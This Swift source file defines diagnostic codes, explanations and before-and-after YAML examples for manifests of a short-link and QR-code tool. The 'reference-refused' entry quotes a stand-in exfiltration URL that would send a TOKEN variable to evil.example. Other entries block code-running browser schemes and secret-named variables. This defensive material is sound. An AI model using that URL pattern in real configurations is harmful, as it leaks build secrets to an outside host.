import Support

extension ManifestCodes {
    static let keys = [
        emptyManifest, unknownKey, misplacedKey, wrongKind, wrongValue, missingKey, conflictingKeys, notYet,
        wrongVersion,
        referenceRefused, referenceSyntax, missingVariable, deploymentVariable, keyMissing, wrongKey, exposedKey,
        literalSecret,
    ]

    static let emptyManifest = define(
        "empty-manifest", "a file has nothing in it",
        "A manifest names at least one domain.",
        bad: "# nothing yet",
        mended: "domains: { go.example.org: {} }\nlinks:\n  hello: https://example.org/")
    static let unknownKey = define(
        "unknown-key", "a key that does not exist here",
        """
        Keys are never ignored: a misspelled `redirect` that did nothing would be found out by visitors. `wayseal
        schema` prints all keys for editors; most editors then complete them.
        """,
        bad: "links:\n  a: { to: https://example.org/, redirct: 307 }",
        mended: "links:\n  a: { to: https://example.org/, redirect: 307 }")
    static let misplacedKey = define(
        "misplaced-key", "a key that belongs into the main manifest",
        """
        Included files add `links` and `domains` (and further includes). What holds for the whole site stands in one
        place, the main manifest.
        """,
        bad: "# in links/spring.yaml\ndefaults: { redirect: 307 }\nlinks: { a: https://example.org/ }",
        mended: "# in links/spring.yaml\nlinks:\n  a: { to: https://example.org/, redirect: 307 }")
    static let wrongKind = define(
        "wrong-kind", "a mapping, a list or a single value where another was expected",
        """
        A mapping is `key: value` lines or `{ key: value }`, a list is `- value` lines or `[value, value]`. A common
        cause is a missing space after a colon: `hello:https://…` is a single text.
        """,
        bad: "links: [https://example.org/]",
        mended: "links:\n  hello: https://example.org/")
    static let wrongValue = define(
        "wrong-value", "a value is not one of those the key takes",
        """
        Values are read by what the key expects: `true` and `false` (not yes, no, on, off), whole numbers in digits,
        one of a few words, a duration such as `180d` or `1y`.
        """,
        bad: "links:\n  a: { to: https://example.org/, redirect: 304 }",
        mended: "links:\n  a: { to: https://example.org/, redirect: 302 }")
    static let missingKey = define(
        "missing-key", "a key that must be there is missing",
        """
        A link needs a target (`to`), and a certificate needs its key.
        """,
        bad: "links:\n  a: { redirect: 307 }",
        mended: "links:\n  a: { to: https://example.org/, redirect: 307 }")
    static let conflictingKeys = define(
        "conflicting-keys", "two keys that say the same thing in different ways",
        "One of the two must go, so that a reader needn't know which one wins.",
        bad:
            "domains: { go.example.org: { server: nginx, servers: [caddy] } }\nlinks: { a: https://example.org/ }",
        mended: "domains: { go.example.org: { servers: [nginx, caddy] } }\nlinks: { a: https://example.org/ }"
    )
    static let notYet = define(
        "not-yet", "a part of the manifest that this version does not compile",
        """
        The key is right, but this version of wayseal can't do what it says. Building without it would publish
        something else than the manifest promises (a link without its page), so it is an error. Remove the
        key, or use a version that has it.
        """,
        bad: "links:\n  anna: { page: pages/anna.yaml }",
        mended: "links:\n  anna: https://example.org/anna")
    static let wrongVersion = define(
        "wrong-version", "the manifest is written for another wayseal",
        "`wayseal: 1` names the version of the manifest's language. This program knows version 1 only.",
        bad: "wayseal: 2\nlinks: { a: https://example.org/ }",
        mended: "wayseal: 1\nlinks: { a: https://example.org/ }")
    static let referenceRefused = define(
        "reference-refused", "${…} stands in a field that everyone can read",
        """
        A manifest may come from a pull request, and the machine that builds it has secrets in its environment. If
        `to: https://evil.example/?${TOKEN}` were filled in, the first scan would carry the token away. References are
        read only in fields that stay private (keys, passwords, tokens) or, if their names begin with WAYSEAL_, in those
        that say how one machine is set up (listen, tls, hsts, server). For a literal `${` write `$${`.
        """,
        bad: "links:\n  a: \"https://example.org/?${TOKEN}\"",
        mended: "links:\n  a: https://example.org/")
    static let referenceSyntax = define(
        "reference-syntax", "a ${…} that can't be read",
        """
        There are four forms: ${NAME}, ${NAME:-default}, ${NAME:?message if it is missing} and ${file:path}. Names
        have letters, digits and underscores and don't begin with a digit. For a literal `${` write `$${`.
        """,
        bad: "ledger: { key: \"${LEDGER-KEY}\" }",
        mended: "ledger: { key: \"${LEDGER_KEY}\" }")
    static let missingVariable = define(
        "missing-variable", "an environment variable is not set",
        """
        The manifest refers to a variable of the environment that wayseal was started in. Set it, or give a default:
        ${NAME:-default}. Values of variables are never printed.
        """,
        bad: "domains: { go.example.org: { listen: \"${WAYSEAL_LISTEN}\" } }\nlinks: { a: https://example.org/ }",
        mended:
            "domains: { go.example.org: { listen: \"${WAYSEAL_LISTEN:-8080}\" } }\nlinks: { a: https://example.org/ }"
    )
    static let deploymentVariable = define(
        "deployment-variable", "a variable that may not become a part of the configuration",
        """
        `server`, `listen`, `tls` and `hsts` end up in the servers' configuration, so `certificate: "/x/${AWS_SECRET}"`
        would write a secret into it. There only variables are read whose names are WAYSEAL_ and capital letters, digits
        and underscores, and none with the word PASSPHRASE, PASSWORD, SECRET or TOKEN. `${file:…}` is for secrets alone.
        """,
        bad: "domains: { go.example.org: { listen: \"${PORT:-8080}\" } }\nlinks: { a: https://example.org/ }",
        mended:
            "domains: { go.example.org: { listen: \"${WAYSEAL_LISTEN:-8080}\" } }\nlinks: { a: https://example.org/ }"
    )
    static let keyMissing = define(
        "key-missing", "the signing key is not on this machine",
        """
        The manifest can be read, checked and compared without the key, for example in a pull request; a build is
        refused, because it would not be signed. `wayseal keys new` makes a key. For builds that are unsigned on purpose
        where the key is missing write ${NAME:-}.
        """,
        bad: "ledger: { key: \"${file:secrets/none.key}\" }",
        mended: "ledger: { key: \"${file:secrets/ledger.key}\" }")
    static let exposedKey = define(
        "exposed-key", "the signing key can be read by others",
        """
        Whoever can read the key can sign in your name. Its file must belong to you alone: `chmod 600`. If others may have
        seen it, make a new one: `wayseal keys rotate` lets those who trust the old one follow.
        """)
    static let wrongKey = define(
        "wrong-key", "the signing key is no PKCS#8 key",
        """
        A key is the text of a PEM file that begins with -----BEGIN PRIVATE KEY----- or -----BEGIN ENCRYPTED PRIVATE
        KEY-----, as `wayseal keys new` writes it. A variable that holds a key holds all its lines.
        """,
        bad: "ledger: { key: \"none${LEDGER_KEY:-}\" }",
        mended: "ledger: { key: \"${LEDGER_KEY:-}\" }")
    static let literalSecret = define(
        "literal-secret", "a secret is written into the manifest",
        """
        The manifest is made to be committed and reviewed; a private key or a password in it is public. Name a file or a
        variable instead, and treat what stood here as lost: make a new one.
        """,
        bad: "ledger: { key: MC4CAQAwBQYDK2VwBCIEIB }",
        mended: "ledger: { key: \"${file:secrets/ledger.key}\" }")
}

extension ManifestCodes {
    static let sites = [
        noDomain, badDomain, duplicateDomain, unknownDomain, domainUnclear, badListen, badPath, badTimezone,
        badLanguage,
        badContact, badScheme, quietZone,
    ]

    static let noDomain = define(
        "no-domain", "the manifest names no domain",
        "A short link is an address, and an address begins with a host name.",
        bad: "links: { a: https://example.org/ }",
        mended: "domains: { go.example.org: {} }\nlinks: { a: https://example.org/ }")
    static let badDomain = define(
        "bad-domain", "a host name can't exist",
        """
        A host name has labels of 1 to 63 letters, digits and hyphens (none at either end of a label), 253 bytes in
        all, without a scheme, port or path. Names in other scripts are read by IDNA (UTS #46) and kept as punycode.
        """,
        bad: "domains: { \"https://go.example.org/\": {} }\nlinks: { a: https://example.org/ }",
        mended: "domains: { go.example.org: {} }\nlinks: { a: https://example.org/ }")
    static let duplicateDomain = define(
        "duplicate-domain", "two names are the same host",
        """
        Host names ignore case, and a name in another script is the same as its punycode.
        """,
        bad:
            "domains: { go.example.org: {}, GO.example.org: {} }\nlinks: { a: { to: https://example.org/, domain: go.example.org } }",
        mended: "domains: { go.example.org: {} }\nlinks: { a: https://example.org/ }")
    static let unknownDomain = define(
        "unknown-domain", "a link or default names a domain that is not in `domains`",
        "Every domain is declared once under `domains`, where its server and certificates stand.",
        bad:
            "domains: { go.example.org: {} }\nlinks: { a: { to: https://example.org/, domain: og.example.org } }",
        mended:
            "domains: { go.example.org: {} }\nlinks: { a: { to: https://example.org/, domain: go.example.org } }"
    )
    static let domainUnclear = define(
        "domain-unclear", "several domains, and a link names none",
        "With more than one domain, either each link names its own or `defaults: { domain: … }` names the usual one.",
        bad: "domains: { go.example.org: {}, id.example.org: {} }\nlinks: { a: https://example.org/ }",
        mended:
            "domains: { go.example.org: {}, id.example.org: {} }\ndefaults: { domain: go.example.org }\nlinks: { a: https://example.org/ }"
    )
    static let badListen = define(
        "bad-listen", "an address to listen on can't be read",
        "Write a port (8080), an IPv4 address and port (127.0.0.1:8080) or an IPv6 one ([::1]:8080). Ports are 1 to 65535.",
        bad: "domains: { go.example.org: { listen: localhost } }\nlinks: { a: https://example.org/ }",
        mended: "domains: { go.example.org: { listen: 127.0.0.1:8080 } }\nlinks: { a: https://example.org/ }")
    static let badPath = define(
        "bad-path", "a path can't be used here",
        """
        Certificates and keys are absolute paths on the server that serves the links, written plainly: no `..`, no
        control characters, quotes, `$` or braces. `home` and `missing` take a URL or the path of an .html file.
        """,
        bad:
            "domains: { go.example.org: { tls: { certificate: cert.pem, key: /etc/ssl/go.key } } }\nlinks: { a: https://example.org/ }",
        mended:
            "domains: { go.example.org: { tls: { certificate: /etc/ssl/go.pem, key: /etc/ssl/go.key } } }\nlinks: { a: https://example.org/ }"
    )
    static let badTimezone = define(
        "bad-timezone", "a time zone is unknown",
        """
        Time zones have names of the IANA database: Europe/Vienna, America/New_York, UTC. CET or +01:00 won't do. The
        machine that builds has the database in /usr/share/zoneinfo (the package tzdata); only UTC needs none.
        """,
        bad: "site: { timezone: \"Europe/Wien!\" }\nlinks: { a: https://example.org/ }",
        mended: "site: { timezone: Europe/Vienna }\nlinks: { a: https://example.org/ }")
    static let badLanguage = define(
        "bad-language", "a language tag can't be read",
        "Languages are BCP 47 tags: de, en, fr, pt-BR, zh-Hant. The first one of the list is the default.",
        bad: "site: { languages: [german] }\nlinks: { a: https://example.org/ }",
        mended: "site: { languages: [de] }\nlinks: { a: https://example.org/ }")
    static let badContact = define(
        "bad-contact", "the contact is neither a mail address nor a web address",
        "It is shown on error pages, so that a visitor who stands before a dead code can tell somebody.",
        bad: "site: { contact: Anna }\nlinks: { a: https://example.org/ }",
        mended: "site: { contact: anna@example.org }\nlinks: { a: https://example.org/ }")
    static let badScheme = define(
        "bad-scheme", "a scheme can't be allowed",
        """
        `schemes` names those of apps, such as `myapp`: a letter, then letters, digits, `+`, `-`, `.`. Schemes that run
        code or read files in a browser (javascript, data, vbscript, file, blob, about) can't be allowed.
        """,
        bad: "schemes: [javascript]\nlinks: { a: https://example.org/ }",
        mended: "schemes: [myapp]\nlinks: { a: https://example.org/ }")
    static let quietZone = define(
        "quiet-zone", "the margin of the codes is narrower than the standard asks for",
        """
        ISO/IEC 18004 wants four light modules round a code. With fewer, a code beside other print is often not found
        at all. It is a warning, because some layouts bring their own margin.
        """,
        bad: "codes: { quiet-zone: 1 }\nlinks: { a: https://example.org/ }",
        mended: "codes: { quiet-zone: 4 }\nlinks: { a: https://example.org/ }")
}
